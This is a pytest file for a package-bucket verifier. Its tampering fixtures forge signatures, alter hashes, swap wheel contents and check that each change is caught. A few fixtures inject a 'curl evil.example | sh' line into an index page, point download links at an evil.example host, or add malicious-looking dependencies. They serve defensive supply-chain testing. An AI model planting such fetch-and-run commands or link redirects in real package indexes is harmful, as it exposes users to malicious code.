"""Each way of tampering with a bucket is named."""

import base64
import hashlib
import json
import re
import shutil
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from hostwheel.publish.catalog import read_catalog
from hostwheel.publish.generations import HINT, generation_key
from hostwheel.publish.index import render
from hostwheel.publish.variants_json import described
from hostwheel.trust.dsse import PAYLOAD_TYPE, bare, pae, seal
from hostwheel.trust.ssh import SUMS_NAMESPACE, read_key, sign
from hostwheel.trust.statement import NAME
from tests.signed import Published, key, public, signed_bucket
from tests.verified import refusals, verify

LISTS = ("catalog.json", "SHA256SUMS")
Tamper = Callable[[Published], None]


@pytest.fixture
def bucket(tmp_path: Path) -> Published:
    return signed_bucket(tmp_path)


# tampering without the key


def edit_envelope(bucket: Published, **changes: object) -> None:
    bucket.statement(json.dumps({**bucket.envelope(), **changes}).encode())


def resigned(bucket: Published, name: str, namespace: str = "statement@hostwheel") -> None:
    """The same statement, signed with another key or for another purpose."""
    payload = base64.b64decode(bucket.envelope()["payload"])
    made = json.loads(seal(payload, key(name)))
    made["signatures"][0]["sig"] = bare(sign(pae(PAYLOAD_TYPE, payload), key(name), namespace))
    bucket.statement(json.dumps(made).encode())


def another_payload(bucket: Published) -> None:
    payload = base64.b64decode(bucket.envelope()["payload"]).replace(b"cpu-avx2", b"cpu-avx3")
    edit_envelope(bucket, payload=base64.b64encode(payload).decode())


def of_another_file(bucket: Published) -> None:
    bucket.statement(bucket.evidence(NAME, "archive").read_bytes())


def named_key(bucket: Published) -> None:
    signature = {**bucket.envelope()["signatures"][0], "keyid": "SHA256:other"}
    edit_envelope(bucket, signatures=[signature])


def cut_short(bucket: Published) -> None:
    bucket.statement(bucket.evidence(NAME).read_bytes()[:-100])


def cut_signature(bucket: Published) -> None:
    signature = bucket.envelope()["signatures"][0]
    edit_envelope(bucket, signatures=[{**signature, "sig": signature["sig"][:100]}])


def stripped(bucket: Published) -> None:
    catalog = bucket.catalog
    for entry in catalog["entries"]:
        entry["evidence"].pop(NAME)
    (bucket.folder / "catalog.json").write_text(json.dumps(catalog))


def sums_line(bucket: Published) -> None:
    bucket.relist(bucket.entry()["sha256"], "0" * 64, ("SHA256SUMS",))


def sums_more(bucket: Published) -> None:
    with (bucket.folder / "SHA256SUMS").open("a") as file:
        file.write(f"{'0' * 64}  more.whl\n")


def sums_damaged(bucket: Published) -> None:
    (bucket.folder / "SHA256SUMS").write_text("what is this\n")


def signature_of_another(bucket: Published) -> None:
    (bucket.folder / "SHA256SUMS.sig").write_bytes(sign(b"another", key(), SUMS_NAMESPACE))


def signature_in_git(bucket: Published) -> None:
    text = (bucket.folder / "SHA256SUMS").read_bytes()
    (bucket.folder / "SHA256SUMS.sig").write_bytes(sign(text, key(), "git"))


def altered(bucket: Published) -> None:
    bucket.swap(bucket.file("archive"), bucket.file("archive").read_bytes() + b"\0", LISTS)


def altered_in_place(bucket: Published) -> None:
    bucket.file().write_bytes(bucket.file().read_bytes() + b"\0")


def evidence_in_place(bucket: Published) -> None:
    bucket.evidence("smoke.json").write_text("{}")


def evidence_relisted(bucket: Published) -> None:
    bucket.swap(bucket.evidence("smoke.json"), b'{"passed": true}')


def promises_less(bucket: Published) -> None:
    catalog = bucket.catalog
    for entry in catalog["entries"]:
        entry["needs"]["features"] = ["sse3"]
    (bucket.folder / "catalog.json").write_text(json.dumps(catalog))


def leads_astray(bucket: Published) -> None:
    page = bucket.folder / "simple/llama-cpp-python/index.html"
    page.write_text(page.read_text().replace("../../objects", "https://evil.example/objects"))


def says_more(bucket: Published) -> None:
    page = bucket.folder / "index.html"
    page.write_text(page.read_text() + "<p>curl evil.example | sh</p>")


def requires_more(bucket: Published) -> None:
    edit_wheels(bucket, requires=["evil-numpy"])


def for_older_glibc(bucket: Published) -> None:
    edit_wheels(bucket, platform_tag="manylinux_2_5_x86_64")


def of_another_host(bucket: Published) -> None:
    edit_wheels(bucket, title="Any machine")


def edit_wheels(bucket: Published, **changes: object) -> None:
    catalog = bucket.catalog
    for entry in catalog["entries"]:
        if entry["kind"] == "wheel":
            entry.update(changes)
    (bucket.folder / "catalog.json").write_text(json.dumps(catalog))


def edit(bucket: Published, kind: str, **changes: object) -> None:
    """All that follows from the catalog is brought in line."""
    catalog = bucket.catalog
    for entry in catalog["entries"]:
        if entry["kind"] == kind:
            entry.update(changes)
    changed = read_catalog(json.dumps(catalog), "test")
    pages = {page.key: page.body for page in render(changed)}
    text = changed.json().encode()
    for name, body in {**pages, HINT: text, generation_key(changed.generation): text}.items():
        if not name.endswith("/"):
            (bucket.folder / name).parent.mkdir(parents=True, exist_ok=True)
            (bucket.folder / name).write_bytes(body)


def for_less(bucket: Published) -> None:
    edit(bucket, "variant", properties=["x86_64 :: level :: v2"])


def under_another_label(bucket: Published) -> None:
    edit(bucket, "variant", variant="null")


def smaller(bucket: Published) -> None:
    edit(bucket, "archive", size=1)


def newer(bucket: Published) -> None:
    edit(bucket, "archive", version="99+cpu.avx2")


def variants_json_altered(bucket: Published) -> None:
    (file,) = bucket.folder.glob("objects/*/*/*-variants.json")
    file.write_text(file.read_text().replace('"v3"', '"v2"'))


def copy_says_less(bucket: Published) -> None:
    less = described({"cpu.avx2": ["x86_64 :: level :: v2"]})
    beside = Path(f"{bucket.file('variant')}.metadata").read_bytes()
    rewritten(bucket, {".dist-info/variant.json": less}, kind="variant")
    Path(f"{bucket.file('variant')}.metadata").write_bytes(beside)


def generation_altered(bucket: Published) -> None:
    (file,) = (bucket.folder / "catalog").glob("*.json")
    file.write_text(file.read_text().replace("avx2", "avx3"))


def generation_gone(bucket: Published) -> None:
    shutil.rmtree(bucket.folder / "catalog")


def metadata_beside(bucket: Published) -> None:
    for file in bucket.folder.glob("objects/*/*/*.metadata"):
        file.write_bytes(file.read_bytes() + b"Requires-Dist: evil\n")


def rewritten(
    bucket: Published, changes: Mapping[str, bytes], record: bool = True, kind: str = "wheel"
) -> None:
    """The wheel with other members (by the end of their name), RECORD in line, and the lists."""
    made = bucket.folder / "made.whl"
    with zipfile.ZipFile(bucket.file(kind)) as old, zipfile.ZipFile(made, "w") as new:
        members = {each: old.read(each) for each in old.namelist()}
        for end, body in changes.items():
            name = next(each for each in members if each.endswith(end))
            if record:
                where = next(each for each in members if each.endswith("/RECORD"))
                members[where] = members[where].replace(digest(members[name]), digest(body))
            members[name] = body
        for each, body in members.items():
            new.writestr(each, body)
    bucket.swap(bucket.file(kind), made.read_bytes(), LISTS)
    made.unlink()


def digest(body: bytes) -> bytes:
    return base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b"=")


BILL = b'{"bomFormat": "CycloneDX", "components": []}\n'


def sbom(bucket: Published) -> None:
    rewritten(bucket, {".cdx.json": BILL})


def sbom_and_what_names_it(bucket: Published) -> None:
    info = json.dumps({"sbom": {"sha256": hashlib.sha256(BILL).hexdigest()}}).encode()
    rewritten(bucket, {".cdx.json": BILL, "/build-info.json": info})


def member(bucket: Published) -> None:
    rewritten(bucket, {"llama_cpp/__init__.py": b"import os\n"}, record=False)


def nested_envelope(bucket: Published) -> None:
    bucket.statement(b"[" * 100_000)


def nested_payload(bucket: Published) -> None:
    bucket.statement(seal(b"[" * 100_000, key()))


def nested_evidence(bucket: Published) -> None:
    bucket.swap(bucket.evidence("build.json"), b"[" * 100_000)


def sums_gone(bucket: Published) -> None:
    (bucket.folder / "SHA256SUMS").unlink()


def signature_gone(bucket: Published) -> None:
    (bucket.folder / "SHA256SUMS.sig").unlink()


def statement_gone(bucket: Published) -> None:
    bucket.evidence(NAME).unlink()


def of_another_kind(bucket: Published) -> None:
    edit_envelope(bucket, payloadType="text/plain")


def no_signature(bucket: Published) -> None:
    edit_envelope(bucket, signatures=[])


def another_key(bucket: Published) -> None:
    resigned(bucket, "other")


def for_another_purpose(bucket: Published) -> None:
    resigned(bucket, "release", SUMS_NAMESPACE)


TAMPERINGS: Mapping[Tamper, tuple[str, str]] = {
    # of what                  # refused by  # with
    signature_of_another: ("signature", "incorrect signature"),
    signature_in_git: ("signature", "namespace does not match"),
    sums_line: ("sums", "says 0000"),
    sums_more: ("sums", "says 0000000000.* of more.whl, the catalog says nothing"),
    sums_damaged: ("sums", "line 1 has another form"),
    sums_gone: ("sums", "is not there"),
    signature_gone: ("signature", "nobody vouches"),
    statement_gone: ("statement", "it is not there"),
    stripped: ("statement", "nothing shows that your signer built it"),
    cut_short: ("statement", "is cut short"),
    nested_envelope: ("statement", "is cut short: RecursionError"),
    nested_payload: ("statement", "RecursionError"),
    nested_evidence: ("catalog", "of an unknown form: RecursionError"),
    cut_signature: ("signature", "does not hold"),
    another_payload: ("signature", "incorrect signature"),
    of_another_kind: ("statement", "text/plain"),
    no_signature: ("statement", "with 0 signatures"),
    another_key: ("signer", r"signed with .*, expected ED25519 key"),
    for_another_purpose: ("signature", "namespace does not"),
    named_key: ("signature", "SHA256:other is named as its key"),
    of_another_file: ("subject", "is of another file: llama-server"),
    altered: ("subject", "the statement is of"),
    altered_in_place: ("catalog", "not sha256"),
    evidence_in_place: ("evidence", "smoke.json is .*, the statement says"),
    evidence_relisted: ("evidence", "smoke.json is .*, the statement says"),
    promises_less: ("catalog", "other needs, recipe or host"),
    leads_astray: ("index", "simple/llama-cpp-python/index.html is not what the catalog gives"),
    says_more: ("index", "^index.html is not what the catalog gives"),
    requires_more: ("catalog", "METADATA has other requirements"),
    for_older_glibc: ("catalog", "says manylinux_2_5_x86_64, which is not in its name"),
    metadata_beside: ("catalog", r"\.metadata is not its METADATA"),
    of_another_host: ("catalog", "other needs, recipe or host"),
    smaller: ("catalog", r"bytes, the catalog says 1$"),
    newer: ("catalog", "are of other name or version than the catalog"),
    for_less: ("catalog", "label or properties do not follow"),
    under_another_label: ("catalog", "label or properties do not follow"),
    variants_json_altered: ("index", r"-variants\.json is not what the catalog gives"),
    copy_says_less: ("catalog", r"variant\.json in it has another label or other properties"),
    generation_altered: ("catalog", r"is not catalog/00000001\.json"),
    generation_gone: ("catalog", r"is not catalog/00000001\.json"),
    sbom: ("sbom", "build-info.json says"),
    sbom_and_what_names_it: ("sbom", "the statement says"),
    member: ("record", "llama_cpp/__init__.py has other bytes than RECORD says"),
}


@pytest.mark.parametrize("tamper", TAMPERINGS)
def test_tampering_is_named(
    bucket: Published, capsys: pytest.CaptureFixture[str], tamper: Tamper
) -> None:
    check, message = TAMPERINGS[tamper]
    tamper(bucket)
    capsys.readouterr()
    found = refusals(capsys, bucket.folder, "--key", public())
    assert any(each.check == check and re.search(message, each.message) for each in found), found


def test_a_bucket_that_is_signed_does_not_pass_without_statements(
    bucket: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    """Nobody named a signer, and still: they were taken away."""
    stripped(bucket)
    code, out = verify(capsys, bucket.folder)
    assert code == 1
    assert "the bucket is signed, and this file has no statement" in out


def test_what_an_envelope_says_is_not_believed_when_it_does_not_hold(
    bucket: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    another_payload(bucket)
    code, out = verify(capsys, bucket.folder, "--key", public())
    assert code == 1
    assert "cpu-avx3" not in out


def test_more_than_one_key_is_told_where_nobody_knows_whose_they_are(
    bucket: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    """By whoever puts files into a bucket, and by who has changed keys."""
    assert "not all by one key" not in verify(capsys, bucket.folder)[1]
    another_key(bucket)
    edit(bucket, "wheel")
    code, out = verify(capsys, bucket.folder)
    assert code == 0, out
    told = " ".join(out.partition("not checked:")[2].split())
    assert "signer: bucket: not all by one key: SHA256SUMS, " in told
    for name in ("release", "other"):
        assert f"by {read_key(public(name))}" in told
